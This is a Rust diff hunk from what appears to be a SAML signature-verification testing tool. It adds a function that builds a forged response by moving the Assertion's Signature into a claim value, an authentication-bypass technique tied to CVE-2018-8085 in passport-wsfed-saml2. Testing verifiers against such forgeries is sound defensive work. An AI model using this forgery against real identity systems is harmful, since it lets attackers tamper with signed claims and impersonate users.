@@ -192,6 +192,28 @@ pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
+/// The Assertion's only Signature moved, byte-exact, to the end of its first claim value:
+/// the enveloped transform removes it wherever it sits, so it still verifies for a verifier
+/// that finds it by a descendant search (passport-wsfed-saml2 3.0.5 to 3.0.9, CVE-2018-8085),
+/// and that claim then reads with the signature's text in it.
+pub fn signature_in_claim(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let value = p
+        .assertion
+        .descendants()
+        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
+        .ok_or_else(|| {
+            Skip::NotApplicable("the Assertion has no claim value to carry its Signature".into())
+        })?;
+    let edits = vec![
+        (sig.range(), String::new()),
+        insert(before_end_tag(doc.src, value), doc.outer(sig)),
+    ];
+    Ok(Forged::same_identity(p.splice_unsigned_response(edits)))
+}
+
 /// The XPath filtering transform.
 const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
 
